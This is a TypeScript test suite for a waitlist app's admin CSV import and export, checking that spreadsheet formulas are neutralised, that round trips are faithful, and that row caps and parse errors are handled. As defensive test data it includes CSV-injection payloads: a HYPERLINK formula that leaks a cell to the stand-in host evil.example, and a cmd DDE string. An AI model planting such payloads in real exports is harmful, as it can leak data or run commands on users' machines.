import { randomUUID } from 'node:crypto';
import { setImmediate } from 'node:timers/promises';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { uniqueClientAddress, uniqueEmail } from '../../../../test/support/identity.ts';
import { createWaitlistTestApp } from '../../../../test/support/waitlist-app.ts';
import { IMPORT_MAX_ROWS } from '../../../contract/waitlist.ts';
import { neutraliseFormulaCell, restoreFormulaCell } from '../../http/csv.ts';
import { waitlistEntries } from './schema.ts';

let app: Awaited<ReturnType<typeof createWaitlistTestApp>>['app'];
let asAdmin: Awaited<ReturnType<typeof createWaitlistTestApp>>['asAdmin'];
beforeAll(async () => {
  ({ app, asAdmin } = await createWaitlistTestApp());
});
afterAll(() => app.close());

const BULK = '/api/v1/admin/approved-users/bulk';
const csvHeaders = { 'content-type': 'text/csv' };
const importCsv = (csv: string, query = '') => asAdmin('POST', `${BULK}${query}`, csv, csvHeaders);

type Exported = { email: string; role: string; name: string | null; notes: string | null };

async function exportCsv() {
  const response = await asAdmin('GET', '/api/v1/admin/approved-users/export?format=csv');
  expect(response.statusCode).toBe(200);
  const cells: Record<string, string>[] = parse(response.body, { columns: true });
  return { text: response.body, byEmail: new Map(cells.map((row) => [row.email, row])) };
}

async function exportJson(): Promise<Map<string, Exported>> {
  const response = await asAdmin('GET', '/api/v1/admin/approved-users/export?format=json');
  const users: Exported[] = JSON.parse(response.body).users;
  return new Map(users.map((user) => [user.email, user]));
}

/** How many approved users have `part` in their email. */
async function countMatching(part: string): Promise<number> {
  const response = await asAdmin('GET', `/api/v1/admin/approved-users?query=${part}&pageSize=1`);
  return response.json().totalCount;
}

function expectApiError(response: { statusCode: number; json(): unknown }, message: RegExp) {
  expect(response.statusCode).toBe(400);
  const body = response.json() as Record<string, unknown>;
  expect(body).toEqual({
    error: 'bad_request',
    message: expect.stringMatching(message),
    requestId: expect.any(String),
  });
  // Words for a person, never a parser's internals.
  expect(body.message).not.toMatch(/CsvError|CSV_[A-Z_]+|\n\s+at /);
}

const FORMULA_STARTS = ['=', '+', '-', '@'];

describe('formulas in the CSV export', () => {
  it('neutralises a name and notes from a public waitlist join and an approval', async () => {
    for (const start of FORMULA_STARTS) {
      const email = uniqueEmail('formula-join');
      const name = `${start}HYPERLINK("https://evil.example/?leak="&A1,"Open")`;
      const joined = await app.inject({
        method: 'POST',
        url: '/api/v1/waitlist',
        remoteAddress: uniqueClientAddress(),
        payload: { email, role: 'client', name },
      });
      expect(joined.statusCode).toBe(202);
      const approved = await asAdmin('POST', '/api/v1/admin/waitlist/approve', {
        emails: [email],
        role: 'coach',
        notes: `${start}1+2`,
      });
      expect(approved.statusCode).toBe(200);

      const { text, byEmail } = await exportCsv();
      expect(byEmail.get(email)).toMatchObject({ name: `'${name}`, notes: `'${start}1+2` });
      expect(text).toContain(`'${start}HYPERLINK(""https://evil.example`);
      // The JSON export is the faithful copy.
      expect((await exportJson()).get(email)).toMatchObject({ name, notes: `${start}1+2` });
    }
  });

  it('neutralises names, notes and emails that came in through an import', async () => {
    const tag = randomUUID().slice(0, 8);
    const rows = FORMULA_STARTS.map((start, index) => ({
      email: `import-${index}.${tag}@example.com`,
      role: 'client',
      name: `${start}cmd|' /C calc'!A0`,
      notes: `${start}SUM(A1:A9)`,
    }));
    const dash = `-dash.${tag}@example.com`;
    const plus = `+plus.${tag}@example.com`;
    const csv = [
      'email,role,name,notes',
      ...rows.map((row) => `${row.email},${row.role},"${row.name}",${row.notes}`),
      `${dash},coach,,`,
      `${plus},coach,,`,
    ].join('\n');
    const imported = await importCsv(csv, '?notify=false');
    expect(imported.json()).toMatchObject({ applied: true, counts: { added: rows.length + 2 } });

    const { byEmail } = await exportCsv();
    for (const row of rows)
      expect(byEmail.get(row.email)).toMatchObject({
        name: `'${row.name}`,
        notes: `'${row.notes}`,
      });
    expect(byEmail.get(`'${dash}`)).toMatchObject({ email: `'${dash}`, role: 'coach' });
    expect(byEmail.get(`'${plus}`)).toMatchObject({ email: `'${plus}`, role: 'coach' });
  });

  it('neutralises a tab, a carriage return and full-width signs first (they only come from older data)', async () => {
    // Every input trims, so a leading tab or carriage return is written here straight to the table.
    const cases = ['\t=1+2', '\r=1+2', '\uFF1D1+2', '\uFF0B1', '\uFF0D1', '\uFF20A1'];
    const emails = cases.map(() => uniqueEmail('formula-raw'));
    await app.database.db.insert(waitlistEntries).values(
      cases.map((value, index) => ({
        email: emails[index] as string,
        role: 'coach' as const,
        status: 'approved' as const,
        name: value,
        notes: value,
      })),
    );
    const { byEmail } = await exportCsv();
    for (const [index, value] of cases.entries())
      expect(byEmail.get(emails[index] as string)).toMatchObject({
        name: `'${value}`,
        notes: `'${value}`,
      });
  });

  it('leaves other cells alone, and quotes a cell that already starts with a quote once more', () => {
    for (const value of ['Ada Lovelace', 'a=b', 'x@example.com', '1-2', "'quoted", ' 1', ''])
      expect(neutraliseFormulaCell(value)).toBe(value);
    // Some spreadsheets trim leading blanks on import.
    expect(neutraliseFormulaCell(' =1')).toBe("' =1");
    expect(neutraliseFormulaCell("'=1")).toBe("''=1");
    expect(neutraliseFormulaCell("''@x")).toBe("'''@x");
    for (const value of [
      '=1',
      '+1',
      '-1',
      '@x',
      '\t1',
      '\r1',
      ' =1',
      "'=1",
      "''-1",
      "'quoted",
      'x',
    ])
      expect(restoreFormulaCell(neutraliseFormulaCell(value))).toBe(value);
  });
});

describe('CSV export → import', () => {
  it('re-imports to the same emails, roles, names and notes', async () => {
    const tag = randomUUID().slice(0, 8);
    const users = [
      { email: `-lead.${tag}@example.com`, role: 'coach', name: '=1+1', notes: '+49 30 1234' },
      { email: `+tag.${tag}@example.com`, role: 'client', name: '@handle', notes: '-5 points' },
      { email: `quote.${tag}@example.com`, role: 'coach', name: "'=already", notes: "''+twice" },
      { email: `plain.${tag}@example.com`, role: 'client', name: 'Ada, Countess', notes: 'a=b' },
      {
        email: `lines.${tag}@example.com`,
        role: 'coach',
        name: '\uFF1Dwide',
        notes: 'He said "=1"\n=on the second line',
      },
    ];
    expect((await asAdmin('POST', `${BULK}?notify=false`, { users })).json().counts).toMatchObject({
      added: users.length,
    });
    const before = await exportJson();
    const csv = (await exportCsv()).text;

    // The whole export read back changes nothing.
    const dry = (await importCsv(csv, '?dryRun=true')).json();
    expect(dry.counts).toMatchObject({ invalid: 0 });
    for (const user of users)
      expect(dry.rows.find((row: { email: string }) => row.email === user.email)).toMatchObject({
        outcome: 'unchanged',
      });

    // Removed, then imported from the CSV export: the same as before.
    for (const user of users)
      await asAdmin('DELETE', `/api/v1/admin/approved-users/${encodeURIComponent(user.email)}`);
    expect(await countMatching(tag)).toBe(0);
    const reimported = await importCsv(csv, '?notify=false');
    expect(reimported.json()).toMatchObject({ applied: true, counts: { added: users.length } });
    const after = await exportJson();
    for (const user of users) {
      const { email, role, name, notes } = before.get(user.email) as Exported;
      expect({ email, role, name, notes }).toEqual(user);
      expect(after.get(user.email)).toMatchObject({ email, role, name, notes });
    }
  });
});

describe('row cap', () => {
  const rowsOf = (count: number, tag: string) =>
    Array.from({ length: count }, (_, index) => ({
      email: `r${index}.${tag}@example.com`,
      role: 'coach',
    }));
  const csvOf = (users: { email: string; role: string }[]) =>
    `email,role\n${users.map((user) => `${user.email},${user.role}`).join('\n')}\n`;

  it('refuses a CSV one row over the cap, changing nothing, and previews one exactly at it', async () => {
    const tag = randomUUID().slice(0, 8);
    const over = await importCsv(csvOf(rowsOf(IMPORT_MAX_ROWS + 1, tag)), '?notify=false');
    expectApiError(over, /more than 50,000 data rows.*at most 50,000/);
    expect(await countMatching(tag)).toBe(0);

    const at = await importCsv(csvOf(rowsOf(IMPORT_MAX_ROWS, tag)), '?dryRun=true');
    expect(at.statusCode).toBe(200);
    const report = at.json();
    expect(report).toMatchObject({
      applied: false,
      counts: { added: IMPORT_MAX_ROWS, invalid: 0 },
    });
    expect(report.rows).toHaveLength(IMPORT_MAX_ROWS);
    expect(await countMatching(tag)).toBe(0);
  });

  it('refuses JSON one user over the cap, changing nothing, and previews it exactly at the cap', async () => {
    const tag = randomUUID().slice(0, 8);
    const over = await asAdmin('POST', `${BULK}?notify=false`, {
      users: rowsOf(IMPORT_MAX_ROWS + 1, tag),
    });
    expectApiError(over, /50,001 users.*at most 50,000/);
    expect(await countMatching(tag)).toBe(0);

    const at = await asAdmin('POST', `${BULK}?dryRun=true`, {
      users: rowsOf(IMPORT_MAX_ROWS, tag),
    });
    expect(at.statusCode).toBe(200);
    expect(at.json()).toMatchObject({
      applied: false,
      counts: { added: IMPORT_MAX_ROWS, invalid: 0 },
    });
    expect(await countMatching(tag)).toBe(0);
  });
});

describe('CSV header and parse errors', () => {
  it('refuses a column named twice, whatever its case and spacing', async () => {
    expectApiError(
      await importCsv('email,role, Email \na@example.com,coach,b@example.com\n'),
      /column "email" twice \(columns 1 and 3\)/,
    );
    expectApiError(
      await importCsv('Email,Role,notes,ROLE\na@example.com,coach,,client\n'),
      /column "role" twice \(columns 2 and 4\)/,
    );
  });

  it('refuses a header without email or role, and an empty file', async () => {
    expectApiError(
      await importCsv('email,notes\na@example.com,x\n'),
      /no "role" column.*"email", "notes"/,
    );
    expectApiError(await importCsv('mail,role\na@example.com,coach\n'), /no "email" column/);
    expectApiError(
      await importCsv('a@example.com,coach\nb@example.com,client\n'),
      /no "email" or "role" column/,
    );
    const wide = [
      'email',
      ...Array.from({ length: 11 }, (_, index) => `c${index}`),
      'x'.repeat(500),
    ];
    expectApiError(
      await importCsv(`${wide.join(',')}\n`),
      /no "role" column.*"email", "c0", .*"c6", and 5 more\)\.$/,
    );
    expectApiError(await importCsv(''), /CSV is empty.*header/);
    expectApiError(await importCsv('\n\n'), /CSV is empty/);
  });

  it('says which line and column cannot be read', async () => {
    expectApiError(
      await importCsv(
        'email,role,notes\na@example.com,coach,"never closed\nb@example.com,coach,\n',
      ),
      /could not be read: a quote opened in column 3 \("notes"\) of the row on line 2 is never closed/,
    );
    expectApiError(
      await importCsv('email,role\na@example.com,coach\nb@example.com,coach,extra\n'),
      /line 3 has 3 values but the header has 2 columns/,
    );
    expectApiError(
      await importCsv('email,role\na@example.com,"coach"x\n'),
      /a quoted value in column 2 \("role"\) on line 2 goes on after its closing quote/,
    );
    expectApiError(
      await importCsv('email,role\na@exa"mple.com,coach\n'),
      /a value in column 1 \("email"\) on line 2 has a quote in the middle/,
    );
  });

  it('ignores other columns (such as an export’s) and blank header cells, and takes a BOM', async () => {
    const email = uniqueEmail('extra-columns');
    const response = await importCsv(
      `\uFEFFstatus,EMAIL,,role,approved_at\napproved,${email},x,coach,2020-01-01\n`,
      '?dryRun=true',
    );
    expect(response.json()).toMatchObject({ counts: { added: 1 }, rows: [{ email }] });
  });
});

describe('other requests during a large import', () => {
  /**
   * Sends requests one after another while the import runs, and counts those answered before it.
   * A server that held the event loop for the whole import would answer one or two at most.
   */
  async function answeredDuring(importing: Promise<unknown>, urls: string[]) {
    let done = false;
    const finished = importing.then(() => {
      done = true;
    });
    let answered = 0;
    while (!done) {
      // A request from the network arrives in a turn of the event loop of its own.
      await setImmediate();
      if (done) break;
      const url = urls[answered % urls.length] as string;
      const response = await app.inject({ method: 'GET', url });
      expect(response.statusCode, url).toBe(200);
      if (!done) answered += 1;
    }
    await finished;
    return answered;
  }

  it('answers health and readiness checks while a 50,000-row CSV dry run is read and checked', async () => {
    const tag = randomUUID().slice(0, 8);
    const csv = `email,role,notes\n${Array.from(
      { length: IMPORT_MAX_ROWS },
      (_, index) => `busy${index}.${tag}@example.com,client,"a note, with a comma"`,
    ).join('\n')}\n`;
    const importing = importCsv(csv, '?dryRun=true');
    const answered = await answeredDuring(importing, ['/healthz', '/readyz']);
    expect((await importing).json().counts).toMatchObject({ added: IMPORT_MAX_ROWS });
    expect(answered).toBeGreaterThanOrEqual(10);
  });

  it('answers health checks while an import is applied', async () => {
    const tag = randomUUID().slice(0, 8);
    const users = Array.from({ length: 5_000 }, (_, index) => ({
      email: `applied${index}.${tag}@example.com`,
      role: 'coach',
    }));
    const importing = asAdmin('POST', `${BULK}?notify=false`, { users });
    const answered = await answeredDuring(importing, ['/healthz']);
    expect((await importing).json()).toMatchObject({ applied: true, counts: { added: 5_000 } });
    expect(await countMatching(tag)).toBe(5_000);
    expect(answered).toBeGreaterThanOrEqual(10);
  });
});
